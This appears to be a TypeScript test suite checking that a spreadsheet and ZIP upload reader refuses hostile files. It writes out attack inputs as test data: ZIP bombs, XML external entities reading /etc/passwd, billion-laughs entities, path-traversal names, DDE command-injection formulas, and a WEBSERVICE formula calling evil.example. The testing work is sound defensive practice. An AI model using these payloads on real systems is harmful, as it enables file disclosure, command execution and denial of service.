import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { deflateRawSync } from 'node:zlib';
import { monument } from '@ar/domain/entities/monument';
import type { Message } from '@ar/domain/messages/message';
import { maxBytesOf, tooLarge } from '@ar/domain/upload';
import { afterAll, beforeAll, expect, test } from '@rstest/core';
import { strToU8, zipSync } from 'fflate';
import { FORMULA } from '../../platform/database/import-types.ts';
import { DIST } from '../../testing/programs.ts';
import { suggestFields, tableOf } from './columns.ts';
import { readSheet } from './reading/read-sheet.ts';
import { readTable } from './reading/read-table.ts';
import { SheetRefused, TOO_MANY_ROWS } from './reading/sheet-refused.ts';
import {
  compound,
  HEADED,
  patched,
  rowOf,
  sheetXml,
  text,
  workbook,
  workbookParts,
  zip64,
} from './testing/workbooks.ts';
import { finderIn, localArchive, openArchive } from './zip-files.ts';

let folder: string;
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'hostile-'));
});
afterAll(() => rm(folder, { recursive: true }));

let made = 0;
async function fileOf(content: Uint8Array | string): Promise<string> {
  made += 1;
  const path = join(folder, String(made));
  await writeFile(path, content);
  return path;
}
const read = async (content: Uint8Array | string) => {
  const file = await readTable(Buffer.from(content as Uint8Array));
  return { ...tableOf(file, monument, new Map()), is1904: file.is1904 };
};
const readApart = async (content: Uint8Array | string) =>
  readSheet(join(DIST, 'sheet-reader.js'), await fileOf(content));

/** The compression ratio is limited only for parts above 20 MB, so this part has 21 MB. */
const ZEROS = new Uint8Array(21 * 1024 * 1024);
const MANY_ROWS = `${HEADED}${'<row/>'.repeat(5000)}${rowOf('a', 'b').repeat(5001)}`;
const PART = 'xl/worksheets/sheet1.xml';
const EXTERNAL = sheetXml(rowOf('&x;'), '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>');
const withPart = (xml: string | Uint8Array) =>
  workbook('', { [PART]: typeof xml === 'string' ? strToU8(xml) : xml });

// ASVS 1.5.1
test.each<[string, Message, () => Uint8Array | string]>([
  ['zero bytes', 'table-empty', () => ''],
  ['only white space', 'table-empty', () => ' \n \n'],
  ['only headings', 'table-without-rows', () => workbook(HEADED)],
  ['10,000 empty rows', 'table-without-rows', () => workbook(`${HEADED}${'<row/>'.repeat(10_000)}`)],
  [
    'numbers where headings should be',
    'table-without-headings',
    () => workbook('<row><c><v>1</v></c></row><row><c><v>2</v></c></row>'),
  ],
  ['5001 rows', TOO_MANY_ROWS, () => workbook(MANY_ROWS)],
  ['5001 rows of CSV', TOO_MANY_ROWS, () => `Naziv;Adresa\n${'a;b\n'.repeat(5001)}`],
  [
    '16,384 columns',
    'table-too-many-columns',
    () => workbook(`<row>${text('a').repeat(16_384)}</row>${rowOf('a')}`),
  ],
  [
    'two cells in far corners',
    'table-too-large',
    () =>
      workbook(
        '<row r="1"><c r="XFD1"><v>1</v></c></row><row r="1048576"><c r="A1048576"><v>1</v></c></row>',
      ),
  ],
  [
    'a ZIP bomb in a part',
    'table-too-large',
    () => zipSync(workbookParts(HEADED, { 'xl/media/a.bin': ZEROS })),
  ],
  ['a ZIP bomb with an understated size', 'table-damaged', () => liar()],
  ['overlapping parts', 'table-too-large', () => overlapping()],
  [
    'a part of five terabytes, in ZIP64',
    'table-too-large',
    () => zip64(workbookParts(HEADED + rowOf('a', 'b')), PART, 5_000_000_000_000n),
  ],
  [
    'a part of 130 megabytes beside an uncompressed part',
    'table-too-large',
    () =>
      zip64(
        workbookParts(HEADED + rowOf('a', 'b'), { 'xl/a.bin': [new Uint8Array(2 ** 20), { level: 0 }] }),
        PART,
        130_000_000n,
      ),
  ],
  ['2001 unnecessary parts', 'table-too-large', () => workbook(HEADED + rowOf('a', 'b'), manyParts())],
  ['a long text that is merged over 1300 rows', 'table-too-large', () => merged()],
  [
    'a part that is larger than its ZIP64 field says',
    'table-damaged',
    () => zip64(workbookParts(HEADED + rowOf('a', 'b')), PART, 1n),
  ],
  ['a ZIP in a ZIP', 'table-not-a-sheet', () => zipSync({ 'a.xlsx': workbook(HEADED + rowOf('a', 'b')) })],
  [
    'a workbook in the format of LibreOffice',
    'table-not-a-sheet',
    () => zipSync({ mimetype: strToU8('application/vnd.oasis.opendocument.spreadsheet') }),
  ],
  ['a workbook whose sheet is missing', 'table-damaged', () => withoutSheet()],
  ['a million shared texts', 'table-too-large', () => sharedTexts(1_000_000)],
  ['an external entity', 'table-entities', () => withPart(EXTERNAL)],
  [
    'a billion laughs',
    'table-entities',
    () => withPart(sheetXml(rowOf('&b;'), '<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>')),
  ],
  [
    'an external entity in UTF-16',
    'table-entities',
    () => withPart(Buffer.from(`\ufeff${EXTERNAL}`, 'utf16le')),
  ],
  [
    'an external entity in a sheet of another extension',
    'table-entities',
    () => sheetNamed('sheet1.dat', strToU8(EXTERNAL)),
  ],
  [
    'an external entity after white space in UTF-16, in a sheet with a picture’s extension',
    'table-entities',
    () => sheetNamed('sheet1.png', Buffer.from(`\ufeff\n  ${EXTERNAL}`, 'utf16le')),
  ],
  ['an encrypted workbook', 'table-locked', () => compound('EncryptedPackage')],
  ['an old workbook', 'table-old-excel', () => compound('Workbook')],
  ['a truncated workbook', 'table-damaged', () => workbook(HEADED + rowOf('a', 'b')).subarray(0, 600)],
  ['a wrong checksum', 'table-damaged', () => spoiled()],
  ['a ZIP of something else', 'table-not-a-sheet', () => zipSync({ 'word/document.xml': strToU8('<a/>') })],
  [
    'a part with a path outside of the folder',
    'table-damaged',
    () => zipSync(workbookParts(HEADED, { '../a.xml': strToU8('<a/>') })),
  ],
  ['a sheet that is no XML', 'table-damaged', () => withPart('<worksheet><sheetData><row')],
  ['a PDF', 'table-not-a-sheet', () => '%PDF-1.7\n1;2\n3;4'],
  ['a picture', 'table-not-a-sheet', () => Buffer.from('89504e470d0a1a0a0000', 'hex')],
  ['a web page with a table', 'table-web-page', () => '<html><table><tr><td>Naziv</td></tr></table></html>'],
  ['UTF-16 without a byte order mark', 'table-not-text', () => Buffer.from('Naziv;Adresa\na;c\n', 'utf16le')],
  [
    'bytes that are invalid in every encoding',
    'table-not-text',
    () => Buffer.from('Naziv;Adresa\n\x81\x83\x90;b\n', 'latin1'),
  ],
  [
    'a quote without an end before a long file',
    'table-long-cell',
    () => `Naziv;Adresa\n"a;b\n${'c;d\n'.repeat(20_000)}`,
  ],
  ['one line of ten megabytes', 'table-long-cell', () => `Naziv\n${'a'.repeat(10_000_000)}`],
])('refuses %s', async (_name, problem, make) => {
  const refused = await read(make()).catch((error: unknown) => error);
  expect(refused).toBeInstanceOf(SheetRefused);
  expect((refused as SheetRefused).problem).toBe(problem);
});

/** Returns a workbook whose directory states a hundredth of the size of a part. */
function liar(): Uint8Array {
  const content = Buffer.alloc(1_234_567, 'a');
  const size = Buffer.alloc(4);
  size.writeUInt32LE(content.length);
  const small = Buffer.alloc(4);
  small.writeUInt32LE(12_345);
  return patched(zipSync(workbookParts(HEADED, { 'xl/a.xml': content })), size, small);
}

/** Returns a workbook whose entries overlap. */
function overlapping(): Uint8Array {
  const parts = workbookParts(HEADED + rowOf('a'), { 'xl/a.bin': deflateRawSync(Buffer.alloc(100)) });
  const file = Buffer.from(zipSync(parts, { level: 0 }));
  for (let at = file.indexOf('PK\x01\x02'); at >= 0; at = file.indexOf('PK\x01\x02', at + 4)) {
    file.writeUInt32LE(file.length, at + 20);
    file.writeUInt32LE(file.length, at + 24);
  }
  return file;
}

const manyParts = () =>
  Object.fromEntries(Array.from({ length: 2001 }, (_, at) => [`xl/${at}.bin`, new Uint8Array()]));

/** Returns a workbook that has forty megabytes of text after its merged cells are filled. */
function merged(): Uint8Array {
  const rows = rowOf('a'.repeat(32_000), 'b') + `<row><c/>${text('b')}</row>`.repeat(1300);
  const merge = '<mergeCells count="1"><mergeCell ref="A2:A1302"/></mergeCells>';
  return withPart(sheetXml(HEADED + rows).replace('</worksheet>', `${merge}</worksheet>`));
}

function sheetNamed(name: string, sheet: Uint8Array): Uint8Array {
  const { [PART]: _, ...parts } = workbookParts('');
  const relations = new TextDecoder().decode(parts['xl/_rels/workbook.xml.rels'] as Uint8Array);
  return zipSync({
    ...parts,
    'xl/_rels/workbook.xml.rels': strToU8(relations.replace('sheet1.xml', name)),
    [`xl/worksheets/${name}`]: sheet,
  });
}

function withoutSheet(): Uint8Array {
  const { [PART]: _, ...parts } = workbookParts(HEADED);
  return zipSync(parts);
}

function sharedTexts(count: number): Uint8Array {
  const texts = `<sst>${'<si><t>tekst</t></si>'.repeat(count)}</sst>`;
  return workbook(HEADED + rowOf('a', 'b'), { 'xl/sharedStrings.xml': strToU8(texts) });
}

function spoiled(): Uint8Array {
  const file = Buffer.from(zipSync(workbookParts(HEADED + rowOf('dobar', 'b')), { level: 0 }));
  file.write('losij', file.indexOf('dobar'));
  return file;
}

test('limits the rows of a table, and allows some rows above the headings', async () => {
  const rows = (count: number) => readTable(Buffer.from('a\n'.repeat(count)));
  expect((await rows(5100)).rows).toHaveLength(5100);
  await expect(rows(5101)).rejects.toEqual(new SheetRefused(TOO_MANY_ROWS));
});

test('reads a file in a separate process', async () => {
  expect((await readApart('Naziv;Adresa\na;b\n')).rows.at(1)).toEqual({ row: 2, cells: ['a', 'b'] });
});

test('ends the reader’s process above 160 MB, and refuses the file as too large', async () => {
  const greedy = join(folder, 'greedy.cjs');
  await writeFile(
    greedy,
    `process.send('began');
    const all = [];
    for (let at = 0; at < 40; at += 1) all.push(new Array(1e6).fill(at + 0.5));
    process.send({ end: { is1904: false } });`,
  );
  await expect(readSheet(greedy, '')).rejects.toEqual(new SheetRefused('table-too-large'));
});

test('limits the time from the start of the reading, not of the process', async () => {
  const endless = join(folder, 'endless.cjs');
  await writeFile(endless, "process.send('began'); setInterval(() => {}, 1000);");
  await expect(readSheet(endless, '', { timeoutMs: 1 })).rejects.toEqual(new SheetRefused('table-too-slow'));
});

const CYRILLIC_FREE = 'Naziv;Adresa\r\nČesma "đak";Šćepan\r\n';
const utf16 = (text: string, mark: string) =>
  Buffer.concat([Buffer.from(mark, 'hex'), Buffer.from(text, 'utf16le')]);
const windows1250 = (text: string) =>
  Buffer.from(
    text.replace('Č', '\xc8').replace('đ', '\xf0').replace('Š', '\x8a').replace('ć', '\xe6'),
    'latin1',
  );

test.each<[string, Uint8Array | string]>([
  ['UTF-8', CYRILLIC_FREE],
  ['UTF-8 with a byte order mark', `\uFEFF${CYRILLIC_FREE}`],
  ['Windows-1250', windows1250(CYRILLIC_FREE)],
  ['UTF-16', utf16(CYRILLIC_FREE, 'fffe')],
  ['big-endian UTF-16', utf16(CYRILLIC_FREE, 'fffe').swap16()],
  ['commas', CYRILLIC_FREE.replaceAll(';', ',')],
  ['tabs', CYRILLIC_FREE.replaceAll(';', '\t')],
  ['vertical bars', CYRILLIC_FREE.replaceAll(';', '|')],
  ['a first line that names the separator', `sep=;\r\n${CYRILLIC_FREE}`],
])('reads CSV with %s', async (_name, content) => {
  const { headings, rows } = await read(content);
  expect(headings).toEqual(['Naziv', 'Adresa']);
  expect(rows).toMatchObject([{ cells: ['Česma "đak"', 'Šćepan'] }]);
});

test('reads the first of two sheets, row numbers, and texts that look like formulas', async () => {
  const more = { 'xl/worksheets/sheet2.xml': strToU8(sheetXml(rowOf('Drugi'))) };
  const cells = `${HEADED}<row r="3">${text("=cmd|' /C calc'!A0")}${text("'=1+1")}</row>`;
  expect((await read(workbook(cells, more))).rows).toEqual([
    { row: 3, cells: ["=cmd|' /C calc'!A0", "'=1+1"] },
  ]);
});

test('reads the stored value of a formula, and never calculates', async () => {
  const cells = '<row><c><f>1+1</f><v>2</v></c><c><f>WEBSERVICE("http://evil.example")</f></c></row>';
  expect((await read(workbook(HEADED + cells))).rows).toMatchObject([{ cells: [2, FORMULA] }]);
});

test('accepts a picture whose bytes look like a document type', async () => {
  const picture = Buffer.from('\x89PNG\r\n\x1a\n<!DOCTYPE svg>', 'latin1');
  const { rows } = await read(workbook(HEADED + rowOf('a', 'b'), { 'xl/media/a.png': picture }));
  expect(rows).toMatchObject([{ cells: ['a', 'b'] }]);
});

// ASVS 1.2.5
test('ignores a DDE link', async () => {
  const cells = `<row><c><f>cmd|'/C calc'!A0</f></c>${text('a')}</row>`;
  const link = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>';
  const more = { 'xl/externalLinks/externalLink1.xml': strToU8(link) };
  expect((await read(workbook(HEADED + cells, more))).rows).toMatchObject([{ cells: [FORMULA, 'a'] }]);
});

test('recognises only the first of two equal headings', () => {
  expect(suggestFields(monument, ['Naziv', 'NAZIV', 'Adresa'], [], new Map())).toEqual([
    'name',
    null,
    'address',
  ]);
});

test('counts days from 1904 if the workbook uses the 1904 calendar', async () => {
  const parts = workbookParts(HEADED + rowOf('a', 'b'));
  const main = new TextDecoder().decode(parts['xl/workbook.xml'] as Uint8Array);
  const more = { 'xl/workbook.xml': strToU8(main.replace('<sheets>', '<workbookPr date1904="1"/><sheets>')) };
  expect((await read(zipSync({ ...parts, ...more }))).is1904).toBe(true);
});

const small = strToU8('a');
const folders = (count: number) =>
  Object.fromEntries(Array.from({ length: count }, (_, at) => [`${at}/`, new Uint8Array()]));
const entry = (name: string, attributes?: number): Uint8Array =>
  zipSync({ [name]: [small, attributes === undefined ? {} : { os: 3, attrs: attributes }] });

test.each<[string, string, () => Uint8Array]>([
  ['a path outside of the folder', 'zip-names', () => entry('../../etc/passwd')],
  ['an absolute path', 'zip-names', () => entry('/etc/passwd')],
  ['a symbolic link', 'zip-links', () => entry('slika.png', 0o120777 << 16)],
  ['a path with backslashes outside of the folder', 'zip-names', () => entry('..\\..\\a.pdf')],
  ['a path with a Windows drive', 'zip-names', () => entry('C:/a.pdf')],
  ['a zero byte in a name', 'zip-names', () => entry('a.pdf\0.exe')],
  ['two files at the same path', 'zip-twice', () => twice()],
  [
    'a file of five terabytes, in ZIP64',
    'zip-bomb',
    () => zip64({ 'a.pdf': small }, 'a.pdf', 5_000_000_000_000n),
  ],
  ['a too high compression ratio', 'zip-bomb', () => zipSync({ 'a.pdf': ZEROS })],
  ['too many folders', 'zip-many', () => zipSync(folders(20_001))],
  ['overlapping entries', 'zip-bomb', () => overlapping()],
  ['content that is no ZIP', 'zip-damaged', () => strToU8('nije zip'.repeat(10))],
  ['a truncated end', 'zip-damaged', () => entry('a.pdf').subarray(0, 60)],
  ['a password', 'zip-locked', () => encrypted()],
])('refuses a ZIP of files with %s', async (_name, code, make) => {
  const content = make();
  const refused = await openArchive(await fileOf(content), content.length).catch((error: unknown) => error);
  expect(String(refused)).toContain(code);
});

test('does not unpack a file above the upload limit', async () => {
  const size = maxBytesOf('image') + 1;
  const zip = zipSync({ 'a.png': [new Uint8Array(size), { level: 0 }] });
  const read = async () => Readable.from([Buffer.from(zip)]);
  const scan = () => Promise.reject(new Error('It was unpacked.'));
  const unpacking = { store: { read } as never, incoming: folder, scan, log: {} as never };
  const archive = localArchive(unpacking, { storage_key: 'a.zip', size: zip.length });
  expect(await archive.inspect({ path: 'a.png', field: 'image', kind: 'image' })).toEqual({
    problem: tooLarge('image'),
  });
  await archive.close();
});

test('accepts a ZIP inside the ZIP, and names that Windows reserves', async () => {
  const content = zipSync({ 'unutra.zip': entry('a.pdf'), 'NUL.pdf': small, 'aux/CON': small });
  const archive = await openArchive(await fileOf(content), content.length);
  archive.close();
  expect(archive.entries.map(({ path }) => path)).toEqual(['unutra.zip', 'NUL.pdf', 'aux/CON']);
});

test.each([
  ['case', 'slika.png', 'SLIKA.png'],
  ['the Unicode form of their letters', 'čošak.png'.normalize('NFC'), 'čošak.png'.normalize('NFD')],
])('asks which of two files the cell means when the names differ only by %s', (_what, one, other) => {
  const find = finderIn([one, other].map((path) => ({ path, size: 1 })));
  expect([find(one, null), find(other, null)]).toEqual([{ path: one }, { path: other }]);
  expect(find(`/${one}`, null)).toHaveProperty('problem', expect.stringContaining('zip-paths-alike?'));
});

const twice = () =>
  patched(zipSync({ 'a.pdf': small, 'b.pdf': small }), Buffer.from('b.pdf'), Buffer.from('a.pdf'));

function encrypted(): Uint8Array {
  const file = Buffer.from(entry('a.pdf'));
  file.writeUInt16LE(1, file.indexOf('PK\x01\x02') + 8);
  return file;
}
